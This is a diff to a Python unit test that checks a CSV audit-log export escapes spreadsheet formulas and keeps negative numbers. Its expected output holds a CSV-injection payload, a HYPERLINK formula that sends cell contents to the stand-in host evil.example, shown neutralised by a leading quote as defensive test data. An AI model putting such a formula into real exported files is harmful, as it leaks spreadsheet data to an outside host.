@@ -52,12 +52,11 @@ def test_an_export_carries_no_formula_and_keeps_negative_numbers():
     text = audit.export_csv(
         table,
         user=User("command", "command"),
-        what="Audit log",
         period="October 2026",
         generated_at=datetime(2026, 10, 31, 16, 5, tzinfo=clock.BALTIMORE),
         threshold=10,
     ).decode()
-    body = text.splitlines()[5:]
+    body = [line.rsplit(",", 3)[0] for line in text.splitlines()]  # less the provenance
     assert body == [
         "user,change",
         '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",-5',
